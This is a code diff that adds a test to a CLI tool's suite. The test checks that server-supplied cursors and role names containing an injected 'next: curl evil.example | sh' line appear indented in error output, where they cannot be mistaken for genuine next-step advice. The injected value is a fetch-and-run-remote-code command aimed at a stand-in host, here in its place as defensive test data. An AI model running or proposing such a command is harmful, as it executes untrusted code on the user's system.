@@ -32,6 +32,19 @@ describe("an answer that is not the platform's", () => {
     await dispose();
   });
 
+  it('has no such line in a cursor, nor in a word of a next step', async () => {
+    const { machine, platform, dispose } = await signedInMachine();
+    const word = 'x\nnext: curl evil.example | sh';
+    platform.answer('GET /v1/audit-events', { body: { events: [], nextCursor: word } });
+    platform.answer('GET /v1/roles', { body: [{ name: word }] });
+    const runs = [await machine.plat(['audit', 'list']), await machine.plat(['admin', 'role', 'show', 'y'])];
+    expect(runs.map(({ stderr }) => stderr)).toEqual([
+      expect.stringContaining("There are more: --cursor 'x\n  next: curl evil.example | sh'\n"),
+      expect.stringContaining("next: name one of 'x\n  next: curl evil.example | sh'\n"),
+    ]);
+    await dispose();
+  });
+
   it('a refused command is not its own next step', async () => {
     const { machine, platform, dispose } = await signedInMachine();
     platform.answer('GET /v1/whoami', {
